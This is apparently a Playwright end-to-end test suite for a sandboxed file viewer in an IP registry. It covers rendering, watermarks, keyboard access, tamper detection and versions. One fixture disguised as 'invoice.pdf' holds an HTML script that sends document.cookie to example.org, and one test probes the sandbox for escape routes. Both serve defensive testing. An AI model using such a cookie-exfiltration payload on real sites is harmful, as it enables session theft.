import { readFile } from 'node:fs/promises';
import { update } from '@ipr/client/program/update';
import { acceptAccess, readInvitation } from '@ipr/client/sharing/accept-access';
import { grantAccess } from '@ipr/client/sharing/grant-access';
import { expect, type Page, test } from '@playwright/test';
import { makePng, makeWav } from '../src/files/make-media.ts';
import { makePdf } from '../src/files/make-pdf.ts';
import { portalFor } from '../src/pages/portal.ts';
import { openingMs, shareOfWindow, viewerFor } from '../src/pages/viewer.ts';
import { createPerson, type Person } from '../src/person/person.ts';
import { createStack, type Stack } from '../src/stack/run-stack.ts';

test.describe.configure({ mode: 'serial' });

/** Stands in the text file alone; wherever else it turns up, decrypted bytes have leaked. */
const secret = 'the displacer is magnetic 8c1f27';
const notes = Buffer.from(
  `Motor, first sketch: ${secret}\n${'A line like many others.\r\n'.repeat(60_000)}the very end\n`,
);
const trap = Buffer.from(
  '<!doctype html><html><body><script>top.location="https://example.org/?"+document.cookie</script><h1>Invoice</h1></body></html>',
);
const files = {
  'notes.txt': notes,
  'photo.png': makePng(900, 600),
  'plan.pdf': makePdf('A motor', 40_000),
  'tone.wav': makeWav(1),
  'invoice.pdf': trap,
  'letter.docx': Buffer.concat([Buffer.from('PK\x03\x04\x14\0', 'latin1'), Buffer.alloc(200, 7)]),
} as const;
type Name = keyof typeof files;
const shared = ['notes.txt', 'photo.png', 'plan.pdf', 'tone.wav'] as const satisfies readonly Name[];

const phone = { width: 390, height: 844 };
const desktop = { width: 1280, height: 860 };

let stack: Stack;
let ada: Person;
let bob: Person;
let page: Page;
const ids = {} as Record<Name, string>;

const signedIn = async (browser: import('@playwright/test').Browser, email: string): Promise<Page> => {
  const opened = await (await browser.newContext()).newPage();
  await portalFor(opened, stack.origin).signIn(opened.context(), email);
  return opened;
};

const share = async (assetId: string): Promise<void> => {
  const terms = { level: 'view', variant: 'standard', shareType: 'internal', locale: 'en', expires: 0 } as const;
  const { signal } = new AbortController();
  const input = { ...terms, assetId, grantee: bob.session.wallet, ndaText: 'Keep it to yourself.' };
  await grantAccess(ada, input, { signal });
  await acceptAccess(bob, await readInvitation(bob, assetId), { signal });
};

test.beforeAll(async ({ browser }) => {
  stack = await createStack();
  await stack.start();
  ada = await createPerson(stack.origin, 'ada@example.org');
  bob = await createPerson(stack.origin, 'bob@example.org');
  for (const [name, bytes] of Object.entries(files) as [Name, Buffer][])
    ids[name] = await ada.register({
      ...{ title: `Motor: ${name}`, ipType: 'Patent', ipContent: 'Document', description: 'quiet' },
      file: new File([new Uint8Array(bytes)], name),
    });
  for (const name of shared) await share(ids[name]);
  page = await signedIn(browser, 'ada@example.org');
});

test.afterAll(async () => {
  await Promise.all([ada?.close(), bob?.close()]);
  await stack.remove();
});

/** The open dialog at both widths: never more than 90 % of the window, never wider than it. */
const shots = async (at: Page, name: string, dialogName: string | RegExp): Promise<void> => {
  const dialog = at.getByRole('dialog', { name: dialogName });
  for (const [size, suffix] of [
    [phone, '-phone'],
    [desktop, ''],
  ] as const) {
    await at.setViewportSize(size);
    await expect.poll(() => shareOfWindow(at, dialog)).toBeLessThanOrEqual(0.9001);
    const overflow = () => at.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    await expect.poll(overflow).toBeLessThanOrEqual(0);
    await at.screenshot({ path: `e2e/screens/${name}${suffix}.png`, animations: 'disabled' });
  }
};

test('an owner looks at a text, a picture, a PDF and a recording, and no mark lies over them', async () => {
  const viewer = viewerFor(page, stack.origin);
  await test.step('a text, which opens at once and goes on as she scrolls', async () => {
    await viewer.goTo(ids['notes.txt']);
    await viewer.open('notes.txt');
    const text = viewer.content('notes.txt');
    await expect(text.getByText(secret)).toBeVisible();
    await shots(page, 'viewer-text', 'File notes.txt');
    await expect(async () => {
      await (await viewer.frame('notes.txt')).evaluate(() => window.scrollTo(0, document.body.scrollHeight));
      await expect(text.getByText('the very end')).toBeVisible({ timeout: 500 });
    }).toPass();
    await expect(text.locator('.mark')).toHaveCount(0);
    await viewer.close('notes.txt');
  });
  await test.step('a picture, fitted and larger', async () => {
    await viewer.goTo(ids['photo.png']);
    await viewer.open('photo.png');
    const picture = viewer.content('photo.png').getByRole('img', { name: 'photo.png' });
    await expect(picture).toBeVisible();
    await shots(page, 'viewer-image', 'File photo.png');
    const fitted = (await picture.boundingBox())?.width ?? 0;
    await page.getByRole('button', { name: 'Zoom in' }).click();
    await expect(page.getByText('150 %')).toBeVisible();
    await expect.poll(async () => ((await picture.boundingBox())?.width ?? 0) / fitted).toBeCloseTo(1.5, 1);
    await page.getByRole('button', { name: 'Reset zoom' }).click();
    await expect.poll(async () => (await picture.boundingBox())?.width).toBeCloseTo(fitted, 0);
    await viewer.close('photo.png');
  });
  await test.step('a PDF, at the specified zoom first', async () => {
    await viewer.goTo(ids['plan.pdf']);
    await viewer.open('plan.pdf');
    await expect(viewer.content('plan.pdf').getByRole('img', { name: 'Page 1 of 1' })).toBeVisible();
    await expect(page.getByText('80 %')).toBeVisible();
    const ink = async () =>
      (await viewer.frame('plan.pdf')).evaluate(() => {
        const canvas = document.querySelector('canvas');
        const pixels = canvas?.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height).data ?? [];
        return pixels.filter((value, at) => at % 4 === 0 && value < 100).length;
      });
    await expect.poll(ink).toBeGreaterThan(100);
    await shots(page, 'viewer-pdf', 'File plan.pdf');
    await page.getByRole('button', { name: 'Zoom in' }).click();
    await expect(page.getByText('100 %')).toBeVisible();
    await expect.poll(ink).toBeGreaterThan(100);
    await viewer.close('plan.pdf');
  });
  await test.step('a recording, which plays', async () => {
    await viewer.goTo(ids['tone.wav']);
    await viewer.open('tone.wav');
    await expect(viewer.content('tone.wav').locator('audio')).toBeVisible();
    const length = async () =>
      (await viewer.frame('tone.wav')).evaluate(() => document.querySelector('audio')?.duration ?? 0);
    await expect.poll(length).toBeCloseTo(1, 1);
    await shots(page, 'viewer-audio', 'File tone.wav');
    await viewer.close('tone.wav');
  });
});

test('a name that does not fit its content warns, and markup is only ever text', async () => {
  const viewer = viewerFor(page, stack.origin);
  await viewer.goTo(ids['invoice.pdf']);
  await viewer.open('invoice.pdf');
  await expect(
    page.getByText('By its name this file is a PDF document, by its content it is a text (text/html).'),
  ).toBeVisible();
  await expect(viewer.content('invoice.pdf').getByText('<h1>Invoice</h1>')).toBeVisible();
  await shots(page, 'viewer-mismatch', 'File invoice.pdf');
  expect(page.url()).toContain(stack.origin);
  await viewer.close('invoice.pdf');
});

test('an Office file is for download, and says why', async () => {
  const viewer = viewerFor(page, stack.origin);
  await viewer.goTo(ids['letter.docx']);
  await viewer.open('letter.docx');
  const dialog = viewer.dialog('letter.docx');
  await expect(dialog.getByText(/^Office files open in a program of your own/)).toBeVisible();
  await shots(page, 'viewer-office', 'File letter.docx');
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    dialog.getByRole('button', { name: 'Download File' }).click(),
  ]);
  expect((await readFile(await file.path())).equals(files['letter.docx'])).toBe(true);
  await viewer.close('letter.docx');
});

/** Everything a page of this origin could keep, as text. */
const keptBy = (at: Page): Promise<string> =>
  at.evaluate(async () => {
    const read = async (store: IDBObjectStore) =>
      new Promise<unknown[]>((resolve) => {
        const request = store.getAll();
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => resolve([]);
      });
    const kept: unknown[] = [{ ...localStorage }, { ...sessionStorage }, document.cookie];
    for (const { name = '' } of await indexedDB.databases()) {
      const database = await new Promise<IDBDatabase>((resolve, reject) => {
        const opening = indexedDB.open(name);
        opening.onsuccess = () => resolve(opening.result);
        opening.onerror = () => reject(opening.error);
      });
      for (const store of database.objectStoreNames)
        kept.push(store, await read(database.transaction(store).objectStore(store)));
      database.close();
    }
    for (const name of await caches.keys())
      for (const { url } of await (await caches.open(name)).keys()) kept.push(url, await (await fetch(url)).text());
    return JSON.stringify(kept);
  });

test('decrypted bytes stay in the frame: no request, no storage, no log and no address holds them', async ({
  browser,
}) => {
  const fresh = await signedIn(browser, 'ada@example.org');
  const requests: { url: string; body: string }[] = [];
  const printed: string[] = [];
  fresh
    .context()
    .on('request', (request) =>
      requests.push({ url: request.url(), body: request.postDataBuffer()?.toString('latin1') ?? '' }),
    );
  fresh.on('console', (message) => printed.push(message.text()));
  await fresh.addInitScript(() => {
    const open = new Set<string>();
    Object.assign(window, { openAddresses: open });
    const { createObjectURL, revokeObjectURL } = URL;
    URL.createObjectURL = (blob) => {
      const address = createObjectURL(blob);
      open.add(address);
      return address;
    };
    URL.revokeObjectURL = (address) => {
      open.delete(address);
      revokeObjectURL(address);
    };
  });
  const viewer = viewerFor(fresh, stack.origin);
  const noted = fresh.waitForResponse((response) => response.url().endsWith('/users/me/activity/view'));
  await viewer.goTo(ids['notes.txt']);
  await viewer.open('notes.txt');
  await expect(viewer.content('notes.txt').getByText(secret)).toBeVisible();
  expect((await noted).status()).toBe(200);
  await test.step('not even a script in the frame could take them out of it', async () => {
    const frame = await viewer.frame('notes.txt');
    const reach = await frame.evaluate(async (origin) => {
      const tried = async (act: () => unknown) => {
        try {
          await act();
          return 'reached';
        } catch {
          return 'refused';
        }
      };
      return {
        origin: self.origin,
        portal: await tried(() => fetch(`${origin}/config.json`)),
        stranger: await tried(() => fetch('https://example.org/', { mode: 'no-cors' })),
        socket: await tried(
          () =>
            new Promise((resolve, reject) => {
              const socket = new WebSocket(origin.replace('http', 'ws'));
              socket.onopen = resolve;
              socket.onerror = reject;
            }),
        ),
        picture: await tried(
          () =>
            new Promise((resolve, reject) =>
              Object.assign(new Image(), { onload: resolve, onerror: reject, src: `${origin}/favicon.ico` }),
            ),
        ),
        storage: await tried(() => localStorage.getItem('x')),
        cookies: await tried(() => document.cookie),
        database: await tried(
          () =>
            new Promise((resolve, reject) => {
              const opening = indexedDB.open('x');
              opening.onsuccess = resolve;
              opening.onerror = reject;
            }),
        ),
        parent: await tried(() => window.parent.document.title),
      };
    }, stack.origin);
    const { origin, ...others } = reach;
    expect(origin).toBe('null');
    for (const [way, result] of Object.entries(others)) expect([way, result]).toEqual([way, 'refused']);
  });
  await viewer.close('notes.txt');
  await expect(fresh.locator('iframe')).toHaveCount(0);
  const open = await fresh.evaluate(() => [...(window as unknown as { openAddresses: Set<string> }).openAddresses]);
  expect(open).toEqual([]);
  expect(await keptBy(fresh)).not.toContain(secret);
  expect(printed.filter((line) => line.includes(secret))).toEqual([]);
  for (const { url, body } of requests) {
    expect(new URL(url).origin === stack.origin || /^(blob:|data:|about:)/.test(url) ? '' : url).toBe('');
    expect(`${decodeURIComponent(url)} ${body}`.includes(secret)).toBe(false);
  }
  await fresh.context().close();
});

test('whoever does not own a file sees their name, wallet and the time over it, whatever kind it is', async ({
  browser,
}) => {
  const his = await signedIn(browser, 'bob@example.org');
  const viewer = viewerFor(his, stack.origin);
  const { wallet } = bob.session;
  const line = new RegExp(
    `^bob@example\\.org\\s${wallet.slice(0, 6)}\\.\\.\\.${wallet.slice(-4)}\\s.+ at \\d\\d:\\d\\d`,
  );
  for (const name of shared) {
    await viewer.goTo(ids[name]);
    await viewer.open(name);
    const content = viewer.content(name);
    const mark = content.locator('.mark');
    await expect(mark).toBeVisible();
    await expect(mark.locator('span').first()).toHaveText(line);
    // Over the whole of what is seen, and once for who listens.
    const frame = await viewer.frame(name);
    const covers = () =>
      frame.evaluate(() => {
        const { width, height } = (document.querySelector('.mark') as HTMLElement).getBoundingClientRect();
        return width >= document.documentElement.clientWidth && height >= window.innerHeight - 1;
      });
    expect(await covers()).toBe(true);
    expect((await content.locator('body').ariaSnapshot()).split(wallet.slice(-4))).toHaveLength(2);
    await shots(his, `viewer-mark-${name.replace('.', '-')}`, `File ${name}`);
    if (name === 'plan.pdf' || name === 'photo.png') {
      for (let times = 0; times < 3; times++) await his.getByRole('button', { name: 'Zoom in' }).click();
      expect(await covers()).toBe(true);
    }
    await his.emulateMedia({ media: 'print' });
    await expect(mark.locator('span').first()).toBeVisible();
    expect(await covers()).toBe(true);
    await his.emulateMedia({ media: 'screen' });
    await viewer.close(name);
  }
  await his.context().close();
});

test('by keyboard alone a file is opened, read and left again', async () => {
  const viewer = viewerFor(page, stack.origin);
  await viewer.goTo(ids['plan.pdf']);
  await page.getByRole('button', { name: 'View File' }).focus();
  await page.keyboard.press('Enter');
  const dialog = viewer.dialog('plan.pdf');
  await expect(dialog).toBeVisible({ timeout: openingMs });
  await expect(viewer.content('plan.pdf').getByRole('img', { name: 'Page 1 of 1' })).toBeVisible();
  // From the last element the focus may leave for the browser's own bars, and comes back; what lies behind never has it.
  const seen = new Set<string>();
  for (let steps = 0; steps < 14; steps++) {
    await page.keyboard.press('Tab');
    seen.add(
      await dialog.evaluate((element) => {
        const { activeElement, body } = document;
        if (activeElement === body || !activeElement) return 'browser';
        return element.contains(activeElement) ? activeElement.tagName : 'behind';
      }),
    );
  }
  expect([...seen]).toEqual(expect.arrayContaining(['BUTTON', 'IFRAME']));
  expect([...seen]).not.toContain('behind');
  await page.locator('iframe').focus();
  await page.keyboard.press('Escape');
  await expect(dialog).toBeHidden();
  await expect(page.getByRole('button', { name: 'View File' })).toBeFocused();
});

test('bytes that were changed on their way are refused, and none of them is shown or downloaded', async () => {
  const { cid } = await ada.ports.chain.asset(ids['notes.txt']);
  const { file } = JSON.parse(Buffer.from(await ada.api.content(cid)).toString('utf8'));
  await page.route(`**/ipfs/${file.encryptedFileCid}`, async (route) => {
    const response = await route.fetch();
    const body = await response.body();
    body[500] = (body[500] ?? 0) ^ 1;
    await route.fulfill({ response, body });
  });
  const downloads: string[] = [];
  page.on('download', (download) => downloads.push(download.suggestedFilename()));
  const viewer = viewerFor(page, stack.origin);
  await viewer.goTo(ids['notes.txt']);
  await page.getByRole('button', { name: 'View File' }).click();
  const alert = page.getByRole('alert').filter({ hasText: 'Failed to decrypt file for viewing' });
  await expect(alert.getByText('File decryption failed')).toBeVisible({ timeout: openingMs });
  await expect(page.locator('iframe')).toHaveCount(0);
  await page.getByRole('button', { name: 'Download File' }).click();
  await expect(
    page.getByRole('alert').filter({ hasText: 'Failed to decrypt file. Make sure you have access permissions.' }),
  ).toBeVisible({ timeout: openingMs });
  expect(downloads).toEqual([]);
  await page.unroute(`**/ipfs/${file.encryptedFileCid}`);
});

test('a registry that cannot note the opening disturbs nobody', async () => {
  const printed: string[] = [];
  page.on('console', (message) => printed.push(message.text()));
  await page.route('**/users/me/activity/view', (route) => route.abort());
  const viewer = viewerFor(page, stack.origin);
  await viewer.goTo(ids['notes.txt']);
  await viewer.open('notes.txt');
  await expect(viewer.content('notes.txt').getByText(secret)).toBeVisible();
  await expect.poll(() => printed).toContain('opening not noted: network.unreachable');
  await viewer.close('notes.txt');
  await page.unroute('**/users/me/activity/view');
});

test('every version is shown with its fields and can be downloaded', async () => {
  const better = Buffer.from('a better motor');
  await update(
    ada,
    { changes: {}, file: new File([new Uint8Array(better)], 'better.txt') },
    { id: ids['notes.txt'], version: 1 },
  );
  await page.goto(`${stack.origin}/assets/${ids['notes.txt']}`);
  for (const [number, name, bytes, words] of [
    [2, 'better.txt', better, 'a better motor'],
    [1, 'notes.txt', notes, secret],
  ] as const) {
    await page.getByRole('button', { name: `View version ${number}` }).click();
    const dialog = page.getByRole('dialog', { name: new RegExp(`^Version ${number}:`) });
    await expect(dialog.getByText(name, { exact: true })).toBeVisible({ timeout: openingMs });
    for (const label of [
      'Internal Date',
      'Internal Asset ID',
      'Related Patent',
      'Description',
      'IP Type',
      'IP Content',
    ])
      await expect(dialog.getByRole('term').filter({ hasText: label })).toBeVisible();
    await expect(dialog.getByRole('heading', { name: 'IP Classification' })).toBeVisible();
    await dialog.getByRole('button', { name: 'View File' }).click();
    await expect(viewerFor(page, stack.origin).content(name).getByText(words)).toBeVisible({ timeout: openingMs });
    await shots(page, `viewer-version-${number}`, new RegExp(`^Version ${number}:`));
    const [file] = await Promise.all([
      page.waitForEvent('download'),
      dialog.getByRole('button', { name: 'Download File' }).click(),
    ]);
    expect(file.suggestedFilename()).toBe(name);
    expect((await readFile(await file.path())).equals(bytes)).toBe(true);
    await page.keyboard.press('Escape');
    await expect(dialog).toBeHidden();
  }
});
